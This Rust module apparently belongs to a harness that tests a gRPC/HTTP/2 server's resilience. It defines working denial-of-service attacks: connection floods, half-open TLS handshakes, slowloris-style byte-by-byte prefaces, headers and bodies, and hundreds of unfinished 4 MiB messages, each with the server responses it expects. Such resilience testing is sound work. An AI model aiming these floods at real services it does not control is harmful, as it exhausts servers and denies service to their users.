//! Connections: many of them, and such as never get to the point.

use std::time::Duration;

use crate::attacker::{Attacker, Over, request, request_fields, request_with, streams};
use crate::support::{END_HEADERS, END_STREAM, HEADERS, PREFACE, block, frame};
use crate::{Attack, Cost, Victim};

const SAY_HELLO: &str = "/helloworld.Greeter/SayHello";
/// Connections of each attacker.
pub const CONNECTIONS: usize = 80;
/// How often a slow peer says a byte.
const PACE: Duration = Duration::from_millis(100);
/// Calls of each connection: as many as the server takes at once, nearly.
const STREAMS: usize = 990;
/// The largest message that it takes.
const LENGTH: u32 = 4 * 1024 * 1024;

pub fn attacks() -> Vec<Attack> {
    vec![
        Attack::new(
            "many_connections",
            Cost::Control,
            &["left", "open"],
            |attacker| Box::pin(many_connections(attacker)),
        ),
        Attack {
            server: Victim::Tls,
            ..Attack::new(
                "half_open_tls_handshakes",
                Cost::Control,
                &["closed", "open"],
                |attacker| Box::pin(half_open_handshakes(attacker)),
            )
        },
        Attack::new(
            "slow_preface",
            Cost::Control,
            &["closed", "open"],
            |attacker| Box::pin(slow_preface(attacker)),
        ),
        Attack::new(
            "slow_headers",
            Cost::Control,
            &["closed", "open", "GOAWAY 11 header_block_timeout"],
            |attacker| Box::pin(slow_headers(attacker)),
        ),
        Attack::new("slow_body", Cost::Unread, &["open"], |attacker| {
            Box::pin(slow_body(attacker))
        }),
        Attack::new(
            "unfinished_messages",
            Cost::Buffered,
            &["open", "GOAWAY 11 too_many_bytes_buffered"],
            |attacker| Box::pin(unfinished_messages(attacker)),
        ),
    ]
}

/// Connects often, has a call answered each time, and leaves.
async fn many_connections(attacker: &mut Attacker) -> Result<(), Over> {
    let mut crowd = crowd(attacker).await;
    for one in &mut crowd {
        one.begin(&[]).await?;
        one.send(&request_with(1, END_STREAM, SAY_HELLO, &[]))
            .await?;
    }
    for one in &mut crowd {
        one.hear(|heard| heard.answers == 1).await?;
    }
    Ok(())
}

/// Begins handshakes that never end.
async fn half_open_handshakes(attacker: &mut Attacker) -> Result<(), Over> {
    // The beginning of a ClientHello. RFC 8446 §4.1.2, §5.1.
    const HELLO: &[u8] = &[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];
    let mut crowd = crowd(attacker).await;
    for one in &mut crowd {
        one.send(HELLO).await?;
    }
    attacker.send(HELLO).await?;
    attacker.listen().await?;
    Ok(())
}

/// A preface byte by byte.
async fn slow_preface(attacker: &mut Attacker) -> Result<(), Over> {
    let mut crowd = crowd(attacker).await;
    trickle(attacker, &mut crowd, &PREFACE[..PREFACE.len() - 1]).await
}

/// A header block byte by byte.
async fn slow_headers(attacker: &mut Attacker) -> Result<(), Over> {
    let mut crowd = crowd(attacker).await;
    attacker.begin(&[]).await?;
    for one in &mut crowd {
        one.begin(&[]).await?;
    }
    let long = "a".repeat(1_000);
    let fields = block(&request_fields(SAY_HELLO, &[("x-a", &long)]));
    let headers = frame(HEADERS, END_HEADERS, 1, &fields);
    trickle(attacker, &mut crowd, &headers[..headers.len() - 1]).await
}

async fn trickle(
    attacker: &mut Attacker,
    crowd: &mut [Attacker],
    bytes: &[u8],
) -> Result<(), Over> {
    for byte in bytes {
        attacker.dawdle(PACE).await?;
        attacker.send(&[*byte]).await?;
        for one in &mut *crowd {
            one.send(&[*byte]).await?;
        }
    }
    attacker.listen().await?;
    Ok(())
}

/// Messages byte by byte, of as many calls as there may be at once.
async fn slow_body(attacker: &mut Attacker) -> Result<(), Over> {
    open_calls(attacker).await?;
    loop {
        attacker.dawdle(PACE).await?;
        for stream in streams().take(STREAMS) {
            attacker.send_data(stream, b"x").await?;
        }
    }
}

/// As many messages at once, whole but for a byte.
async fn unfinished_messages(attacker: &mut Attacker) -> Result<(), Over> {
    open_calls(attacker).await?;
    let most = vec![b'x'; usize::try_from(LENGTH).unwrap() - 1];
    for stream in streams().take(STREAMS) {
        attacker.send_data(stream, &most).await?;
    }
    attacker.listen().await?;
    Ok(())
}

/// Calls whose requests have begun.
async fn open_calls(attacker: &mut Attacker) -> Result<(), Over> {
    let prefix = [&[0][..], &LENGTH.to_be_bytes()].concat();
    attacker.begin_and_wait(&[]).await?;
    for stream in streams().take(STREAMS) {
        attacker.send(&request(stream, SAY_HELLO, &[])).await?;
        attacker.send_data(stream, &prefix).await?;
    }
    Ok(())
}

/// More connections of the same attacker.
async fn crowd(attacker: &Attacker) -> Vec<Attacker> {
    let mut crowd = Vec::new();
    for _ in 1..CONNECTIONS {
        crowd.push(attacker.another().await.expect("a connection"));
    }
    crowd
}
